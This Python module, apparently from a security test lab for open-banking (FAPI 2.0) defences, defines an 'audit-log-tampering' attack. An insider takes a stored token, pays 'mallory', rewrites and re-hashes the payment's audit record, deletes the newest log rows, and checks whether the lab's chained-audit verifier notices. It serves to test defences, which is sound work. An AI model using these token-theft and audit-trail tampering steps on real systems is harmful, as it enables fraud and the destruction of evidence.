"""audit-log-tampering: a payment to mallory, then the audit trail edited and cut short.

The log insider (LI, attacks.md §1) can write the lab's SQLite store, nothing else: not the
audit key, not the checkpoint file beside the store. In the lab FinLens's tables share that
file, so the insider takes the victim's FinLens token from it (as the TPP insider would) and
pays mallory through the bank's API. Then it covers its tracks: it rewrites the payment's
audit record to an innocent creditor, recomputes that record's hash (SHA-256 over RFC 8785
JSON is no secret), deletes the last TAIL records, and runs the lab's verifier.

Off, the trail carries no chain and the verifier checks nothing: it passes. On, the signed
checkpoints outside the store still name the deleted head (and the rewritten record, if it
survives the cut): the verifier refuses, and its refusal is a fired event of the attacker's
own verify run (its request id).
"""

from __future__ import annotations

import secrets
from typing import Any

import rfc8785

from attacker import token_support as ts
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.outcome import PremiseViolation
from attacker.premises import linked_victim
from lab import context
from lab.audit import trail
from lab.audit import verify as audit_verify

TAIL = 20
INNOCENT = {"creditor_name": "HonestBank card fees", "creditor_iban": "GB00HONE00000000000000"}


def _writes_store(ctx: AttackContext) -> None:
    if "store" not in ctx.attack.legs:
        raise PremiseViolation(f"{ctx.attack.id}: only the log insider writes the store")


def rewrite_payment(ctx: AttackContext, payment_id: str) -> int | None:
    """Make the payment's record name an innocent creditor; re-hash it if it has a hash.
    Returns its sequence number (None: no record of it)."""
    _writes_store(ctx)
    for record in trail.records(ctx.store):
        if record.kind == "payment" and isinstance(record.data, dict) \
                and record.data.get("payment_id") == payment_id:
            data: dict[str, Any] = {**record.data, **INNOCENT}
            digest = None
            if record.hash is not None and record.prev is not None:
                digest = trail.record_hash(record.seq, record.ts, record.kind, record.component,
                                           record.request_id, data, record.prev)
            ctx.store.execute("UPDATE audit_log SET data = ?, hash = ? WHERE seq = ?",
                              (rfc8785.dumps(data).decode(), digest, record.seq))
            ctx.step("attacker", f"rewrites audit record {record.seq}: the payment now went to "
                                 f"{INNOCENT['creditor_name']}"
                                 + (", its hash recomputed" if digest else ""))
            return record.seq
    ctx.step("attacker", "finds no audit record of the payment to rewrite")
    return None


def cut_tail(ctx: AttackContext, count: int = TAIL) -> int:
    """Delete the newest `count` records of the trail."""
    _writes_store(ctx)
    deleted = ctx.store.execute(
        "DELETE FROM audit_log WHERE seq IN "
        "(SELECT seq FROM audit_log ORDER BY seq DESC LIMIT ?)", (count,))
    ctx.step("attacker", f"deletes the last {deleted} records of the audit trail")
    return deleted


def run_verifier(ctx: AttackContext) -> audit_verify.Report:
    """`fapi-lab audit verify` as the lab runs it, under a request id of the attacker's run,
    so a refusal is an event of this run's own step (and of no other traffic)."""
    request_id = f"audit-verify-{ctx.run_tag}-{secrets.token_hex(3)}"
    with context.bound(ctx.store, "audit", request_id, "audit verify"):
        report = audit_verify.check(ctx.store)
    ctx.attacker_request_ids.append(request_id)
    outcome = ("passes" if report.ok else f"fails at record {report.first_bad}: "
               f"{report.problem}")
    ctx.step("attacker", f"runs the audit verifier: it {outcome}", request_id=request_id,
             error=None if report.ok else audit_verify.AuditChainBroken.error)
    return report


def run(ctx: AttackContext) -> None:
    victim = linked_victim(ctx)
    tpp = ts.tpp_identity(ctx, victim)
    listed = ts.accounts(ctx, tpp.tokens, signer=tpp.signer, http=tpp.http)
    paid = ts.pay_mallory(ctx, tpp.tokens, ts.checking_account(listed), "250.00",
                          signer=tpp.signer, http=tpp.http)
    if paid.status_code != 201:
        ctx.failed("the bank refused the payment to mallory", paid)
    payment_id = str(ts.json_body(paid).get("payment_id", ""))
    rewritten = rewrite_payment(ctx, payment_id)
    deleted = cut_tail(ctx)
    report = run_verifier(ctx)
    if not report.ok:
        ctx.failed(f"the audit verifier caught the tampering: {report.problem}")
    ctx.succeeded("paid 250.00 EUR to mallory, rewrote and cut the audit trail, and the "
                  "verifier passes", {"payment_id": payment_id, "rewritten_record": rewritten,
                                      "deleted_records": deleted, "verifier": report.as_dict()})


ATTACK = Attack(
    id="audit-log-tampering", attacker="LI", legs=("store",), victim="prior",
    title="Fraud hidden by editing and truncating the trail",
    blocked_by=("audit_chain",),
    needs={"payments": "on"},
    premise="A log insider with write access to the lab's SQLite store (not the audit key, "
            "not the checkpoint file beside it); the victim linked FinLens, payments "
            "included, and FinLens's token sits in the same store.",
    goal="the payment to mallory is hidden and the audit verifier still passes", run=run,
    fapi2_blocks=False,
    why_not="the bank's own records are outside FAPI 2.0's attacker model: no FAPI "
            "requirement makes an audit trail tamper-evident",
    refs=("MS §5.2", "HTTPSig (privacy considerations)"),
    also_blocked_by={
        "step_up_for_payments":
            "the insider's payment rides FinLens's token, whose sign-in is older than the "
            "step-up max_age: refused with insufficient_user_authentication, so there is "
            "nothing to hide",
        "payment_consent_binding":
            "the fraud never happens: the insider's payment to mallory has no payment "
            "consent behind FinLens's token and is refused, so there is nothing to hide",
    },
)
